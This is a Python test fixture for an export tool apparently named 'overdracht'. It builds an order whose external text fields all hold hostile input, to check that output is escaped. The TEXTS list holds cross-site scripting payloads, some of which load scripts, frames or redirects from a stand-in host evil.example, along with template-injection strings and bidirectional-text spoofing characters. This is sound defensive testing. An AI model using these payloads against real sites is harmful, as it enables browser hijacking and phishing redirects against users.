"""Text as somebody would write it who wants the overview to do something."""

from datetime import date

from overdracht import Category, Identifier, Origin, Text
from overdracht.coverage import Coverage, Reach
from overdracht.export import Controller, Order
from overdracht.state import Clue
from overdracht.survey import Identity, Known, Standing
from tests.export.world import MAIL, Double, as_mails, item, order

SCRIPT = "<script>document.title='taken'; alert(1)</script>"
TEXTS = (
    SCRIPT,
    "</title></style></script><script src=//evil.example/x.js></script>",
    "<img src=x onerror=alert(1)><svg onload=alert(2)>",
    '" onmouseover="alert(1)" style="background:url(https://evil.example/b.png)',
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "<iframe src=https://evil.example></iframe><link rel=stylesheet href=https://evil.example/c.css>",
    "<meta http-equiv=refresh content=0;url=https://evil.example>",
    "<form action=https://evil.example><input name=q></form>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;b&#62;",
    "--><!--[if IE]><script>alert(1)</script><![endif]-->",
    "]]></svg><template><p>",
    "{}{0}%s%(x)s${x}{{7*7}}",
    "factuur \u202etxt.exe\u202c \u2066links\u2069 \u200erechts\u200f \u061cx",
    "NUL\x00 ESC\x1b[31mrood\x1b[0m BEL\x07 DEL\x7f C1\x9b31m",
    "nieuwe\nregel\r\nen\ttab\u2028scheiding",
    "half \ud83d teken \uffff \U0001fffe \ufdd0",
    "onzichtbaar\u200b\U000e0041\U000e0042\ufeff",
    "مرحبا فاتورة 123 שלום",
    "Zoë Özdemir — façade ✓ 🧾 👨‍👩‍👧",
    "M" * 5_000,
    "Z" + "\u0300" * 400,
    "",
)


def a_hostile_world() -> Order:
    """Return an order in which every text that comes from elsewhere is hostile."""
    source = "<b>bron</b>"
    identity = Identity(
        (
            Known(Identifier("email", SCRIPT), Standing.GIVEN),
            *(
                Known(
                    Identifier("name", text),
                    Standing.REVEALED,
                    Clue(
                        Identifier("name", text), (Identifier("email", SCRIPT),), text, text, text
                    ),
                )
                for text in TEXTS
                if text
            ),
        )
    )
    items = [
        item(
            f"{number} {text}",
            text,
            part=text,
            category=list(Category)[number % len(Category)],
            origin=list(Origin)[number % len(Origin)],
            third_parties=number,
        )
        for number, text in enumerate(TEXTS)
    ]
    hostile = Text(SCRIPT, SCRIPT)
    return order(
        {source: items},
        [Double(source, as_mails, [MAIL])],
        reference="2026-0666",
        controller=Controller(SCRIPT, TEXTS[3], TEXTS[4], TEXTS[:12]),
        coverage=tuple(
            Coverage(text, text, Reach.WHOLE, notes=(Text(text, text),)) for text in TEXTS if text
        ),
        identity=identity,
        received=date(2026, 8, 31),
        kinds={"email": hostile, "name": hostile},
    )
